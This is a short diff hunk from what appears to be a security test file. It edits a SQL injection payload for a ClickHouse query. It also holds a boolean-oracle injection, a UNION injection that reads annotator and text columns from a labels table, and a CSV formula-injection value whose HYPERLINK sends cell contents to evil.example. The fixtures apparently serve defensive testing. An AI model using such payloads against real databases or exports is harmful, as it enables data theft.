@@ -18,7 +18,7 @@ EVIL_SOURCE = "x\\') OR 1=1 --"  # stored by any publisher; `\'` ends a ClickHou
 ORACLE_Q = "\\' != char(0) AND 0 OR (SELECT any(annotator) FROM labels) = char(97,108,105,99,101)) --"
 UNION_Q = (
     "\\') UNION ALL SELECT document_id AS id, labelled_at AS published_at, annotator, 'news', 'world', 'und', "
-    "'negative', 1, annotator, annotator, ifNull(text, '') FROM labels --"
+    "'negative', 1, annotator, annotator, '', '', ifNull(text, '') FROM labels --"
 )
 FORMULAS = {  # id, source and text of a document made to attack whoever opens the CSV export
     "id": '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
